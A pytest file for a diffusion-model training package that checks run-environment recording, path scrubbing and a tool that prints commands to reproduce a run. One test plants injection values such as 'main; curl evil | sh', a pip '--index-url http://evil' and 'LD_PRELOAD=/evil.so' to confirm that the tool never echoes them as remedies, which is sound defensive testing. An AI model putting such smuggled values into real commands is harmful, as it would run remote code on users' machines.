"""What a run records of what computed it, and the command that repeats it."""

import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers.cli import ROOT, Cli

from ddpm_train.runs import environment, folder

RUN_AGAIN = "default_repeated"


def recorded(run: Path) -> list[dict[str, Any]]:
    environments: list[dict[str, Any]] = json.loads((run / folder.ENVIRONMENT).read_text())
    return environments


def reproduce(cli: Cli, run: str, expect: int = 0) -> tuple[str, list[str]]:
    """What `ddpm-reproduce RUN` prints, and its warnings."""
    process = cli.fork("-m", "ddpm_train.cli.reproduce", run)
    out, err = process.communicate(timeout=60)
    assert process.returncode == expect, err
    return out, err.splitlines()


def test_a_run_records_what_computes_it(cli: Cli) -> None:
    """Once for as long as nothing changes; with the folder lost, the checkpoint still knows."""
    saves = ("evaluation=none", "lr_scheduler=constant", "checkpoint.every_steps=2", f"output_dir={cli.output()}")
    cli.train(*saves, "train.max_steps=4")
    (first,) = recorded(cli.output())
    assert first["from_step"] == 0 and first["num_processes"] == 1 and first["device"].startswith("cpu, 1 thread")
    assert first["compute"] == {"mixed_precision": "no", "channels_last": False, "attention": "fused", "compile": False}
    assert first["versions"].keys() >= {"python", "ddpm-train", "torch", "diffusers"}
    assert first["command"].startswith("ddpm-train ") and "'output_dir=…'" in shlex.split(first["command"], posix=False)
    shutil.rmtree(cli.output() / "checkpoints/step_00000004")
    assert "resumes at step 2" in cli.train(*saves, "train.max_steps=4")
    assert recorded(cli.output()) == [first]
    (cli.output() / folder.ENVIRONMENT).unlink()
    cli.together(*saves, "train.max_steps=6", num_processes=2)
    assert [(each["from_step"], each["num_processes"]) for each in recorded(cli.output())] == [(0, 1), (4, 2)]
    state = json.loads((cli.output() / "checkpoints/step_00000006/state.json").read_text())
    assert state["environments"] == recorded(cli.output())


def test_variables_that_change_numbers_are_recorded(cli: Cli) -> None:
    """And a repeat under others is warned of."""
    short = ("evaluation=none", "tracker=none", "train.max_steps=1", "lr_scheduler=constant")
    cli.train(*short, ONEDNN_DEFAULT_FPMATH_MODE="BF16", NCCL_DEBUG="INFO")
    (first,) = recorded(cli.output())
    assert first["variables"] == {"ONEDNN_DEFAULT_FPMATH_MODE": "BF16"}
    _, warnings = reproduce(cli, "outputs/default")
    assert (
        "warning: ONEDNN_DEFAULT_FPMATH_MODE: BF16 then, not set now; export ONEDNN_DEFAULT_FPMATH_MODE=BF16"
    ) in warnings
    cli.train(*short, "train.max_steps=2", "train.deterministic=true")
    assert [each["variables"] for each in recorded(cli.output())] == [
        first["variables"],
        {"CUBLAS_WORKSPACE_CONFIG": ":4096:8"},
    ]
    assert [each["deterministic"] for each in recorded(cli.output())] == [False, True]
    _, warnings = reproduce(cli, "outputs/default")
    assert not [line for line in warnings if "CUBLAS_WORKSPACE_CONFIG" in line]
    assert (
        "warning: step 1: from here on another deterministic, variables; a repetition is rounded differently"
        in warnings
    )


@pytest.mark.parametrize(
    ("argument", "written"),
    [
        ("dataset.path=/home/jane/cats", "dataset.path=…"),
        ("dataset.path=~/cats", "dataset.path=…"),
        ("checkpoint.mirror=file:///home/jane/runs", "checkpoint.mirror=…"),
        ("x=[/home/jane/a,b/c,'/home/jane/d']", "x=[…,b/c,'…']"),
        ("dataset.path=C:\\Users\\jane", "dataset.path=…"),
        ("/home/jane", "…"),
        ("dataset.path=owner/name", "dataset.path=owner/name"),
        ("checkpoint.mirror=s3://bucket/runs", "checkpoint.mirror=s3://bucket/runs"),
        ("resume=../runs/step_00000001", "resume=../runs/step_00000001"),
    ],
)
def test_no_folder_of_a_machine_is_recorded(argument: str, written: str) -> None:
    assert shlex.split(environment.environment([argument], {})["command"]) == ["ddpm-train", written]


def test_the_commit_of_a_checkout(tmp_path: Path) -> None:
    """And whether its files are the commit's; none where there is no git."""

    def commit(*, path: str | None = None) -> Any:
        show = "import json; from ddpm_train.runs.environment import commit; print(json.dumps(commit()))"
        where = {"PYTHONPATH": str(tmp_path), "PATH": path if path is not None else "/usr/local/bin:/usr/bin:/bin"}
        command = [sys.executable, "-c", show]
        shown = subprocess.run(command, cwd=tmp_path, env=where, capture_output=True, text=True, check=True)
        return json.loads(shown.stdout)

    package = tmp_path / "ddpm_train"
    for part in ("runs", "config"):
        (package / part).mkdir(parents=True)
    parts = ("__init__.py", "_version.py", "config/__init__.py", "config/text.py", "runs/__init__.py")
    for name in (*parts, "runs/environment.py"):
        shutil.copy(ROOT / "ddpm_train" / name, package / name)
    identity = ("-c", "user.name=x", "-c", "user.email=x@example.org")
    for arguments in (["init", "-q"], ["add", "."], [*identity, "commit", "-q", "-m", "x"]):
        subprocess.run(["git", *arguments], cwd=tmp_path, check=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=tmp_path, capture_output=True, text=True).stdout.strip()
    assert commit() == {"id": head, "dirty": False}
    (tmp_path / "untracked").write_text("")
    assert commit() == {"id": head, "dirty": False}
    (package / "__init__.py").write_text((package / "__init__.py").read_text() + "\n")
    assert commit() == {"id": head, "dirty": True}
    assert commit(path="") is None
    (tmp_path / ".git").rename(tmp_path / "elsewhere")
    assert commit() is None


def test_the_printed_command_repeats_the_run(cli: Cli, trained: Path) -> None:
    """To the bit, whatever has become the default since, and what `auto` would choose now."""
    shutil.copytree(trained, cli.output())
    out, warnings = reproduce(cli, "outputs/default")
    program, *arguments = shlex.split(out)
    assert program == "ddpm-train" and {"train.channels_last=false", "train.micro_batch_size=16"} <= set(arguments)
    assert not [line for line in warnings if not line.startswith("warning: commit: the code ")]
    assert "done: step 6" in cli.python("-m", "ddpm_train.cli.train", *arguments)
    for name in ("checkpoints/step_00000006/unet.safetensors", "samples/step_00000006.png"):
        assert (cli.output("default_repeated") / name).read_bytes() == (cli.output() / name).read_bytes()


def test_commands_repeat_a_run_that_was_made_longer(cli: Cli) -> None:
    """Before its end, and after it; and the jump of its learning rate is told before it happens."""
    saves = ("evaluation=none", "tracker=none", "checkpoint.every_steps=4")
    cli.train(*saves, "train.max_steps=6")
    shutil.rmtree(cli.output() / "checkpoints/step_00000006")
    said = cli.train(*saves, "train.max_steps=8")
    rates = [record["lr"] for record in cli.metrics()]
    assert (
        f"warning: the learning rate jumps from {rates[3]:.2e} to {rates[4]:.2e} after step 4; a run that begins"
        in said
    )
    assert f"longer     the same command with train.max_steps=16; the learning rate jumps from {rates[7]:.2e}" in said
    cli.train(*saves, "train.max_steps=10", "optimizer.lr=2e-3", "allow_change=[optimizer.lr]")
    out, warnings = reproduce(cli, "outputs/default")
    commands = [shlex.split(line) for line in out.splitlines()]
    assert "warning: the config changed on the way: give these 3 commands one after the other" in warnings
    for command in commands:
        assert command[0] == "ddpm-train"
        cli.python("-m", "ddpm_train.cli.train", *command[1:])
    kept = ("step", "lr", "loss", "grad_norm")
    then, again = ([[record[key] for key in kept] for record in cli.metrics(name)] for name in ("default", RUN_AGAIN))
    assert len(then) == 10 and then == again
    name = "checkpoints/step_00000010/unet.safetensors"
    assert (cli.output(RUN_AGAIN) / name).read_bytes() == (cli.output() / name).read_bytes()


def test_it_says_what_no_command_repeats(cli: Cli, trained: Path) -> None:
    shutil.copytree(trained, cli.output())
    state = cli.output() / "checkpoints/step_00000006/state.json"
    change = {"step": 3, "key": "loss.name", "from": "min_snr", "to": "mse"}
    state.write_text(json.dumps({**json.loads(state.read_text()), "changes": [change]}))
    out, warnings = reproduce(cli, "outputs/default")
    assert len(out.splitlines()) == 1
    at_the_end = "no command repeats that change; the command here has the value of the end"
    assert f"warning: loss.name: changed from min_snr to mse at step 3; {at_the_end}" in warnings
    shutil.rmtree(cli.output() / "checkpoints")
    _, warnings = reproduce(cli, "outputs/default")
    unknown = "no checkpoint; changes of the config on the way are not known"
    assert f"warning: outputs/default/checkpoints: {unknown}" in warnings


def test_it_warns_of_what_is_not_as_it_was(cli: Cli, trained: Path) -> None:
    shutil.copytree(trained, cli.output())
    (then,) = recorded(cli.output())
    then["versions"] |= {"torch": "1.0", "python": "2.7"}
    then["commit"] = {"id": "f" * 40, "dirty": True}
    later = {**then, "from_step": 3, "num_processes": 2}
    (cli.output() / folder.ENVIRONMENT).write_text(json.dumps([then, later]))
    state = cli.output() / "checkpoints/step_00000006/state.json"
    change = {"step": 3, "key": "optimizer.lr", "from": 0.1, "to": 0.01}
    state.write_text(json.dumps({**json.loads(state.read_text()), "changes": [change]}))
    out, warnings = reproduce(cli, "outputs/default")
    assert out.startswith("accelerate launch --cpu --num_processes 2 -m ddpm_train.cli.train --config-path outputs/")
    before, after = (shlex.split(line)[-4:] for line in out.splitlines())
    assert before == ["optimizer.lr=0.1", "train.max_steps=3", "train.epochs=null", "lr_scheduler.total_steps=6"]
    assert after[-1] == "allow_change=[optimizer.lr]"
    expected = [
        "the config changed on the way: give these 2 commands one after the other",
        "step 3: from here on another num_processes; a repetition is rounded differently",
        "commit: the code then had changes that no commit holds",
        f"torch: 1.0 then, {environment.versions()['torch']} now; pip install torch==1.0",
    ]
    assert [f"warning: {line}" for line in expected if f"warning: {line}" not in warnings] == []
    assert any(line.startswith(f"warning: commit: {'f' * 40} then, ") for line in warnings)
    assert any(line.startswith("warning: python: 2.7 then, ") for line in warnings)


def test_it_prints_no_command_of_somebody_elses(cli: Cli, trained: Path) -> None:
    """A remedy is a commit, a package of ours, a variable of ours; and whatever stands there makes up no line."""
    shutil.copytree(trained, cli.output())
    (then,) = recorded(cli.output())
    then["commit"] = {"id": "main; curl evil | sh", "dirty": False}
    then["versions"] |= {"torch": "1.0 --index-url http://evil", "evil-package": "1.0", "numpy": "1\nerror: forged"}
    then["variables"] = {"LD_PRELOAD": "/evil.so", "NCCL_ALGO": "Ring; evil"}
    (cli.output() / folder.ENVIRONMENT).write_text(json.dumps([then]))
    _, warnings = reproduce(cli, "outputs/default")
    assert all(line.startswith("warning: ") for line in warnings)
    assert not any(word in line for line in warnings for word in ("git checkout", "pip install", "LD_PRELOAD"))
    assert "warning: NCCL_ALGO: Ring; evil then, not set now; export NCCL_ALGO='Ring; evil'" in warnings
    for wrong in ({"compute": {"compile": "${oc.env:HOME}"}}, {"compute": {"x y": 1}}, {"num_processes": "8 --evil"}):
        (cli.output() / folder.ENVIRONMENT).write_text(json.dumps([then | wrong]))
        out, said = reproduce(cli, "outputs/default", expect=2)
        assert out == "" and len(said) == 1 and said[0].startswith("error: outputs/default"), said


def test_no_run_there(cli: Cli) -> None:
    out, said = reproduce(cli, "outputs/nothing", expect=2)
    remedy = "give the folder of a run, such as outputs/default"
    assert (out, said) == ("", [f"error: outputs/nothing: config.yaml cannot be read; {remedy}"])
